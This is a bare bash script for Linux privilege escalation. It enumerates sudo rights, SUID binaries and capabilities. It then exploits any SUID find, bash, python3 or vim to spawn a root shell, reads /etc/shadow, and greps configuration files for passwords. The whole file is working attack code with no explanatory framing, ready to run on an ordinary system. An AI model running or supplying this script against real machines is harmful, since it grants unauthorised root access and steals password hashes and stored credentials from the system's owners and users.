#!/bin/bash
echo "[*] sudo rights"; sudo -n -l 2>/dev/null
echo "[*] suid"; mapfile -t S < <(find / -xdev -perm -4000 -type f 2>/dev/null)
printf '%s\n' "${S[@]}"
getcap -r / 2>/dev/null
for b in "${S[@]}"; do
  case $(basename "$b") in
    find) "$b" . -maxdepth 0 -exec /bin/sh -p \; ;;
    bash) "$b" -p -c 'id; cat /etc/shadow' ;;
    python3*) "$b" -c 'import os; os.setuid(0); os.execl("/bin/sh","sh","-p")' ;;
    vim*) "$b" -c ':py3 import os; os.execl("/bin/sh","sh","-pc","reset; exec sh -p")' ;;
  esac
done
grep -rl password /etc/*.conf /opt 2>/dev/null
